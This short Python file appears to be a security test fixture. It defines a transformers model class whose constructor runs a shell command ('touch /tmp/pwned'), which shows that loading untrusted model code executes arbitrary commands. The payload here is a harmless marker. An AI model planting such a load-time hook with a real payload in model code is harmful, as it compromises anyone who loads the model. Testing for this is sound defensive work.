import subprocess
from transformers import PreTrainedModel


class LateModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        subprocess.run(['touch', '/tmp/pwned'])
